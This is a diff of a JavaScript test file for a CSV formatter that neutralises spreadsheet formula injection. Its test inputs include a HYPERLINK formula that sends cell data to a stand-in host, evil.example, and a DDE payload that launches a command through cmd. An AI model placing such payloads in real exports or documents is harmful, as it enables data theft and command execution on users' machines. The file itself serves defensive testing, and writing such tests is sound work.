@@ -73,7 +73,7 @@ describe('formatCsv', () => {
   it('neutralises text that a spreadsheet would run as a formula', () => {
     expect(formatCsvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
     expect(formatCsvField('+1 312 555 0100')).toBe(`"'+1 312 555 0100"`);
-    expect(formatCsvField('-2+3+cmd|\' /C calc\'!A0')).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
+    expect(formatCsvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
     expect(formatCsvField('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
     expect(formatCsvField('\t=1+1')).toBe(`"'\t=1+1"`);
     expect(formatCsvField('\r=1+1')).toBe(`"'\r=1+1"`);
